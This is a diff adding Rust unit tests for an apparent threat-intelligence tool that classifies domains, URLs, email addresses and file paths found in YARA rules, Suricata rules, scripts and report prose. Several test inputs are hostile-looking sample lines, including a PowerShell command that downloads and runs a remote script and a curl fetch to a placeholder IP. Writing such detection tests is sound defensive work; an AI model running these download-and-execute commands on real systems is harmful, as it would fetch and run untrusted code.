@@ -201,3 +201,65 @@ fn columns_speak_for_their_cells_only() {
         ]
     );
 }
+
+#[test]
+fn rules_and_code_tell_what_they_look_for_and_what_they_cite() {
+    assert_told(&[
+        ("$s1 = \"reed.marsh-a.org\" wide", "reed.marsh-a.org", "domain-name indicator"),
+        (
+            "alert tls $HOME_NET any -> any any (msg:\"x\"; tls.sni; content:\"reed.marsh-a.org\"; sid:1;)",
+            "reed.marsh-a.org",
+            "domain-name indicator",
+        ),
+        (
+            "alert tls any any -> any any (msg:\"x\"; reference:url,reed.marsh-b.org/a; sid:1;)",
+            "reed.marsh-b.org/a",
+            "url reference",
+        ),
+        (
+            "IEX (New-Object Net.WebClient).DownloadString('http://reed.marsh-a.org/x.ps1')",
+            "http://reed.marsh-a.org/x.ps1",
+            "url indicator",
+        ),
+        ("x = CreateObject(\"WScript.Shell\")", "wscript.shell", "domain-name unclear"),
+        (
+            "Type=\"http://schemas.openxmlformats.org/x/y\"",
+            "http://schemas.openxmlformats.org/x/y",
+            "url benign",
+        ),
+        (
+            "curl http://198.18.7.7/a&&timeout 10",
+            "http://198.18.7.7/a",
+            "url indicator",
+        ),
+    ]);
+}
+
+#[test]
+fn a_link_whose_host_is_accused_is_accused() {
+    let text = "It beacons to reed.marsh-a.org daily.\n\nThe page http://reed.marsh-a.org/x was up.";
+    assert_eq!(told(text, "http://reed.marsh-a.org/x"), "url indicator");
+}
+
+#[test]
+fn mail_addresses_are_of_those_who_got_mail_or_of_those_to_ask() {
+    assert_told(&[
+        (
+            "The phishing mail was delivered to ann@marsh-a.org at noon.",
+            "ann@marsh-a.org",
+            "email-addr victim",
+        ),
+        (
+            "# For questions please contact ann [at] marsh-a.org",
+            "ann@marsh-a.org",
+            "email-addr reference",
+        ),
+        ("发件人邮箱：ann@marsh-a.org", "ann@marsh-a.org", "email-addr unclear"),
+        ("- iocs.csv and marsh.yar hold them", "iocs.csv", "file:name reference"),
+        (
+            "run('c:\\\\users\\\\public\\\\1.vbs')",
+            "c:\\users\\public\\1.vbs",
+            "file:path unclear",
+        ),
+    ]);
+}
